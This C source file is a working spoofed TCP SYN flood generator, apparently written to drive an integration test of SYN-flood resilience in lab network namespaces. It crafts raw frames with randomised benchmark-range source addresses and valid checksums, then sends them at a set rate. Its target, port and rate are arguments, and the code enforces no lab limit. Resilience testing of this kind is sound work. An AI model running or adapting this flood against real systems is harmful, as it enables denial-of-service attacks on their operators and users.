/* Spoofed SYN flood for tests/integration/test_syn_flood.py (issue 13).
 *
 * synflood IFACE DST_MAC DST_IP DST_PORT RATE SECONDS
 *
 * Sends Ethernet/IPv4/TCP SYNs with Linux's option layout (mss, sackOK, TS,
 * nop, wscale) from random sources in 198.18.0.0/15 (RFC 2544 benchmark
 * space) and random ports, batches of 64 through sendmmsg() on an AF_PACKET
 * socket, paced to RATE frames per second.  Prints "sent N seconds S".
 * Only for lab namespaces the test creates.
 */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <linux/if_packet.h>
#include <net/ethernet.h>
#include <net/if.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define BATCH 64
#define FRAME_LEN (14 + 20 + 40)

static uint32_t rng = 2463534242u;
static uint32_t xorshift(void) {
    rng ^= rng << 13; rng ^= rng >> 17; rng ^= rng << 5;
    return rng;
}

static uint16_t csum(const uint8_t *p, size_t n, uint32_t s) {
    for (size_t i = 0; i + 1 < n; i += 2) s += (uint32_t)(p[i] << 8 | p[i + 1]);
    if (n & 1) s += (uint32_t)(p[n - 1] << 8);
    while (s >> 16) s = (s & 0xFFFF) + (s >> 16);
    return (uint16_t)~s;
}

static double now(void) {
    struct timespec ts;
    clock_gettime(CLOCK_MONOTONIC, &ts);
    return ts.tv_sec + ts.tv_nsec / 1e9;
}

int main(int argc, char **argv) {
    if (argc != 7) {
        fprintf(stderr, "usage: synflood IFACE DST_MAC DST_IP DST_PORT RATE SECONDS\n");
        return 2;
    }
    unsigned mac[6];
    if (sscanf(argv[2], "%x:%x:%x:%x:%x:%x", &mac[0], &mac[1], &mac[2], &mac[3], &mac[4],
               &mac[5]) != 6) return 2;
    struct in_addr dst;
    if (!inet_aton(argv[3], &dst)) return 2;
    int port = atoi(argv[4]);
    double rate = atof(argv[5]), seconds = atof(argv[6]);
    rng ^= (uint32_t)getpid();

    /* protocol 0: a send-only socket.  Bound to ETH_P_IP it would also
     * receive (clone and queue) every frame arriving on the interface, the
     * target's SYN-ACKs included, and charge that to the flood. */
    int fd = socket(AF_PACKET, SOCK_RAW, 0);
    if (fd < 0) { perror("socket"); return 1; }
    struct ifreq ifr;
    memset(&ifr, 0, sizeof ifr);
    strncpy(ifr.ifr_name, argv[1], IFNAMSIZ - 1);
    if (ioctl(fd, SIOCGIFINDEX, &ifr) < 0) { perror("SIOCGIFINDEX"); return 1; }
    int ifindex = ifr.ifr_ifindex;
    if (ioctl(fd, SIOCGIFHWADDR, &ifr) < 0) { perror("SIOCGIFHWADDR"); return 1; }
    int sndbuf = 8 << 20;
    setsockopt(fd, SOL_SOCKET, SO_SNDBUF, &sndbuf, sizeof sndbuf);
    struct sockaddr_ll sll;
    memset(&sll, 0, sizeof sll);
    sll.sll_family = AF_PACKET;
    sll.sll_ifindex = ifindex;
    sll.sll_protocol = 0;
    if (bind(fd, (struct sockaddr *)&sll, sizeof sll) < 0) { perror("bind"); return 1; }

    static uint8_t frames[BATCH][FRAME_LEN];
    struct iovec iov[BATCH];
    struct mmsghdr msgs[BATCH];
    memset(msgs, 0, sizeof msgs);
    for (int i = 0; i < BATCH; i++) {
        uint8_t *f = frames[i];
        for (int j = 0; j < 6; j++) f[j] = (uint8_t)mac[j];
        memcpy(f + 6, ifr.ifr_hwaddr.sa_data, 6);
        f[12] = 0x08; f[13] = 0x00;
        uint8_t *ip = f + 14;
        ip[0] = 0x45; ip[1] = 0; ip[2] = 0; ip[3] = 60;  /* total length 20 + 40 */
        ip[6] = 0x40; ip[8] = 64; ip[9] = 6;             /* DF, TTL, TCP */
        memcpy(ip + 16, &dst, 4);
        uint8_t *tcp = ip + 20;
        tcp[2] = (uint8_t)(port >> 8); tcp[3] = (uint8_t)port;
        tcp[12] = 0xA0; tcp[13] = 0x02;                  /* 40-byte header, SYN */
        tcp[14] = 0xFA; tcp[15] = 0xF0;                  /* window 64240 */
        static const uint8_t opts[20] = {2, 4, 0x05, 0xB4, 4, 2, 8, 10, 0, 0, 0, 0,
                                         0, 0, 0, 0, 1, 3, 3, 7};
        memcpy(tcp + 20, opts, 20);
        iov[i].iov_base = f;
        iov[i].iov_len = FRAME_LEN;
        msgs[i].msg_hdr.msg_iov = &iov[i];
        msgs[i].msg_hdr.msg_iovlen = 1;
    }

    uint64_t sent = 0;
    double start = now(), end = start + seconds;
    for (;;) {
        double t = now();
        if (t >= end) break;
        double due = (t - start) * rate;
        if ((double)sent + BATCH > due + BATCH) {  /* ahead of the pace */
            struct timespec nap = {0, 200000};
            nanosleep(&nap, NULL);
            continue;
        }
        for (int i = 0; i < BATCH; i++) {
            uint8_t *ip = frames[i] + 14, *tcp = ip + 20;
            uint32_t r = xorshift();
            ip[12] = 198; ip[13] = (uint8_t)(18 | (r & 1)); ip[14] = (uint8_t)(r >> 8);
            ip[15] = (uint8_t)(r >> 16);
            uint32_t id = xorshift();
            ip[4] = (uint8_t)id; ip[5] = (uint8_t)(id >> 8);
            ip[10] = ip[11] = 0;
            uint16_t c = csum(ip, 20, 0);
            ip[10] = (uint8_t)(c >> 8); ip[11] = (uint8_t)c;
            uint16_t sport = (uint16_t)(1024 + (r >> 24) * 250 + (id & 0xFF));
            tcp[0] = (uint8_t)(sport >> 8); tcp[1] = (uint8_t)sport;
            uint32_t seq = xorshift();
            memcpy(tcp + 4, &seq, 4);
            uint32_t tsval = xorshift();
            memcpy(tcp + 28, &tsval, 4);
            tcp[16] = tcp[17] = 0;
            /* pseudo header: src, dst, proto, length */
            uint32_t s = (uint32_t)(ip[12] << 8 | ip[13]) + (uint32_t)(ip[14] << 8 | ip[15])
                       + (uint32_t)(ip[16] << 8 | ip[17]) + (uint32_t)(ip[18] << 8 | ip[19])
                       + 6 + 40;
            c = csum(tcp, 40, s);
            tcp[16] = (uint8_t)(c >> 8); tcp[17] = (uint8_t)c;
        }
        int n = sendmmsg(fd, msgs, BATCH, 0);
        if (n > 0) sent += (uint64_t)n;
    }
    printf("sent %llu seconds %.3f\n", (unsigned long long)sent, now() - start);
    return 0;
}
